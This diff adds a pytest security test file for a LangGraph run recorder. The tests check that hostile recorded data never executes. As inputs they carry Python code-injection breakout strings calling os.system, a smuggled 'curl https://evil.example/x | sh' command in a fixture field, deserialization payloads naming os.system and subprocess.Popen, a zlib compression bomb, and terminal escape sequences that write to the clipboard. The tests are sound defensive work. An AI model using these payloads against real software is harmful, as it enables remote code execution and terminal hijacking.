@@ -1,0 +1,212 @@
+"""A recording is untrusted: hostile text never runs, never drives a terminal or a shell, and
+a crafted store cannot make a read build unbounded data (issue 13)."""
+
+from __future__ import annotations
+
+import ast
+import json
+import os
+import shlex
+import subprocess
+import sys
+import zlib
+from pathlib import Path
+from typing import Any, TypedDict
+
+import pytest
+import sqlalchemy as sa
+
+from graphtape.recorder import Recorder, open_store
+from graphtape.recorder.errors import StoreError
+from graphtape.tui.cli import main
+
+ROOT = Path(__file__).resolve().parents[1]
+
+BREAKOUTS = [
+    'incident 42 """; __import__("os").system("touch {marker}"); """',
+    "x'''; __import__('os').system('touch {marker}'); '''",
+    "line\nimport os; os.system('touch {marker}')\n#",
+    "\\\"\"\"\n__import__('os').system('touch {marker}')",
+]
+
+
+def _graph(keys: list[str]):
+    from langgraph.graph import END, START, StateGraph
+
+    State = TypedDict("State", {k: int for k in keys}, total=False)  # noqa: UP013 - keys that are not identifiers
+    b = StateGraph(State)
+    b.add_node("bump", lambda s: {keys[0]: s.get(keys[0], 0) + 1})
+    b.add_edge(START, "bump")
+    b.add_edge("bump", END)
+    return b.compile()
+
+
+GRAPH_FILE = '''
+from typing import TypedDict
+from langgraph.graph import END, START, StateGraph
+
+KEYS = {keys!r}
+State = TypedDict("State", {{k: int for k in KEYS}}, total=False)
+b = StateGraph(State)
+b.add_node("bump", lambda s: {{KEYS[0]: s.get(KEYS[0], 0) + 1}})
+b.add_edge(START, "bump")
+b.add_edge("bump", END)
+graph = b.compile()
+'''
+
+
+@pytest.mark.parametrize("breakout", BREAKOUTS)
+def test_test_gen_holds_recorded_text_only_as_inert_text_and_literals(tmp_path, breakout, capsys):
+    marker = tmp_path / "pwned"
+    hostile = breakout.format(marker=marker)
+    keys = ["n", f"k {hostile}"]
+    (tmp_path / "agent.py").write_text(GRAPH_FILE.format(keys=keys))
+    from graphtape.replay.loading import load_graph
+
+    db = str(tmp_path / "runs.db")
+    with Recorder(db) as rec:
+        rec.attach(load_graph(f"{tmp_path / 'agent.py'}:graph"), name=hostile, tags=[hostile]).invoke({"n": 1})
+        run_id = rec.last_run_id
+    out_dir = tmp_path / "generated"
+    assert main(["--db", db, "test-gen", run_id, "--graph", f"{tmp_path / 'agent.py'}:graph", "-o", str(out_dir), "--name", "hostile"]) == 0
+    source = (out_dir / "test_hostile.py").read_text()
+    # The module is what test-gen writes and nothing else: a docstring, imports, three
+    # assignments and one test function; no recorded text outside string literals.
+    tree = ast.parse(source)
+    kinds = [type(node).__name__ for node in tree.body]
+    assert kinds == ["Expr", "ImportFrom", "Import", "Assign", "Assign", "Assign", "FunctionDef"], kinds
+    # The hostile text survives only as inert words in the docstring (and a comment): the code
+    # itself (comments dropped, docstring removed) never holds it.
+    assert "touch" in ast.get_docstring(tree)
+    code = ast.unparse(ast.Module(body=tree.body[1:], type_ignores=[]))
+    assert "touch" not in code and "system" not in code
+    env = {k: v for k, v in os.environ.items() if k != "CI"}
+    proc = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", str(out_dir)], cwd=tmp_path, capture_output=True, text=True, timeout=300, env=env)
+    assert proc.returncode == 0 and "1 passed" in proc.stdout, proc.stdout[-2000:]
+    assert not marker.exists()
+
+
+def test_a_crafted_store_cannot_make_one_read_inflate_without_bound(tmp_path, monkeypatch):
+    from langgraph.graph import END, START, StateGraph
+
+    from graphtape.recorder import store as store_module
+
+    class S(TypedDict):
+        n: int
+
+    b = StateGraph(S)
+    b.add_node("a", lambda s: {"n": s["n"] + 1})
+    b.add_node("b", lambda s: {"n": s["n"] + 1})
+    b.add_node("c", lambda s: {"n": s["n"] + 1})
+    b.add_edge(START, "a")
+    b.add_edge("a", "b")
+    b.add_edge("b", "c")
+    b.add_edge("c", END)
+    db = tmp_path / "crafted.db"
+    with Recorder(db, durability="sync") as rec:
+        rec.attach(b.compile()).invoke({"n": 0})
+        run_id = rec.last_run_id
+    # Each payload alone is under the per-payload limit; together they are far over the read's.
+    bomb = b"z" + zlib.compress(b" " * (6 * 1024 * 1024) + b"{}", 9)
+    engine = sa.create_engine(f"sqlite:///{db}")
+    with engine.begin() as conn:
+        conn.execute(sa.text("UPDATE steps SET payload = :p, is_key = 0 WHERE run_id = :r AND step >= 0"), {"p": bomb, "r": run_id})
+    engine.dispose()
+    assert db.stat().st_size < 1024 * 1024  # the crafted store is small
+    monkeypatch.setattr(store_module, "MAX_READ_BYTES", 10 * 1024 * 1024)
+    monkeypatch.setattr(store_module, "MAX_INFLATE", 8 * 1024 * 1024)
+    store = open_store(db)
+    try:
+        with pytest.raises(StoreError, match="would inflate more than 10 MB"):
+            store.state_at(run_id, 2)
+    finally:
+        store.close()
+
+
+def test_a_fixtures_graph_field_is_quoted_in_the_hint_it_prints(tmp_path, capsys):
+    fixture_path = ROOT / "fixtures" / "runs" / "demo-react.json"
+    fixture = json.loads(fixture_path.read_text())
+    fixture["graph"] = "agent.py:graph; curl https://evil.example/x | sh #"
+    hostile = tmp_path / "hostile.json"
+    hostile.write_text(json.dumps(fixture))
+    assert main(["--db", str(tmp_path / "runs.db"), "import", str(hostile)]) == 0
+    out = capsys.readouterr().out
+    hint = next(line for line in out.splitlines() if line.startswith("open it:"))
+    command = hint.split("replay it: ", 1)[1]
+    argv = shlex.split(command)
+    assert argv[:2] == ["graphtape", "replay"] and argv[3] == "--graph" and argv[4] == fixture["graph"] and len(argv) == 5
+
+
+def test_import_from_a_device_or_a_pipe_is_refused_at_once(tmp_path, capsys):
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    for source in ("/dev/zero", str(fifo)):
+        code = main(["--db", str(tmp_path / "runs.db"), "import", source])
+        err = capsys.readouterr().err
+        assert code == 2 and "not a regular file" in err and err.count("\n") == 1
+
+
+@pytest.mark.parametrize("argv", [["show", "last", "--step", "9" * 30], ["show", "last~" + "9" * 30], ["runs", "--limit", "9" * 30], ["replay", "last", "--from", "9" * 30]])
+def test_huge_numbers_are_one_line_errors(tmp_path, capsys, argv):
+    db = tmp_path / "runs.db"
+    open_store(db, create=True).close()
+    code = main(["--db", str(db), *argv])
+    err = capsys.readouterr().err
+    assert code == 2 and err.count("\n") <= 5 and "OverflowError" not in err and "Traceback" not in err
+
+
+def test_hostile_fixtures_run_nothing_when_imported_and_opened(tmp_path, capsys):
+    """A fixture naming code everywhere a type or a reference could go: nothing runs."""
+    marker = tmp_path / "ran"
+    fixture = json.loads((ROOT / "fixtures" / "runs" / "demo-react.json").read_text())
+    payload = {"$t": "obj", "type": "os.system", "v": {"cmd": f"touch {marker}"}}
+    fixture["graph"] = f"{tmp_path / 'evil.py'}:graph"
+    (tmp_path / "evil.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
+    fixture["inputs"] = {"x": payload, "y": {"$t": "lc.msg", "cls": "subprocess.Popen", "v": {"args": ["touch", str(marker)]}}}
+    fixture["name"] = "evil\x1b]52;c;ZWNobyBwd25lZA==\x07"
+    hostile = tmp_path / "hostile.json"
+    hostile.write_text(json.dumps(fixture))
+    db = str(tmp_path / "runs.db")
+    assert main(["--db", db, "import", str(hostile)]) in (0, 2)
+    for argv in (["runs"], ["show", "last"], ["show", "last", "--json"]):
+        main(["--db", db, *argv])
+    out = capsys.readouterr()
+    assert "\x1b" not in out.out + out.err and "\x07" not in out.out
+    assert not marker.exists()
+
+
+async def test_the_tui_shows_recorded_escape_sequences_as_text(tmp_path):
+    from langgraph.graph import END, START, StateGraph
+
+    from graphtape.tui.app import build_app
+    from graphtape.tui.screens.run import RunScreen
+    from graphtape.tui.widgets.runs_table import RunsTable
+
+    class S(TypedDict):
+        n: int
+
+    b = StateGraph(S)
+    b.add_node("bump", lambda s: {"n": s["n"] + 1})
+    b.add_edge(START, "bump")
+    b.add_edge("bump", END)
+    db = str(tmp_path / "runs.db")
+    hostile = "evil\x1b]2;PWNED\x07\x1b]52;c;ZWNobyBwd25lZA==\x07run"
+    with Recorder(db) as rec:
+        rec.attach(b.compile(), name=hostile, tags=["t\x1b[31m"]).invoke({"n": 1})
+        run_id = rec.last_run_id
+    app = build_app(db)
+    async with app.run_test(size=(120, 30)) as pilot:
+        for _ in range(60):
+            await pilot.pause(0.05)
+            if getattr(app.screen, "runs", None):
+                break
+        table = app.screen.query_one(RunsTable)
+        lines = [table.render_line(y).text for y in range(3)]
+        assert any("evil?]2;PWNED?" in line for line in lines) and not any("\x1b" in line or "\x07" in line for line in lines)
+        await pilot.press("enter")
+        for _ in range(60):
+            await pilot.pause(0.05)
+            if isinstance(app.screen, RunScreen) and app.screen.payload is not None:
+                break
+        header = str(app.screen.query_one("#run-header").render())
+        assert app.screen.run_id == run_id and "evil?" in header and "\x1b" not in header
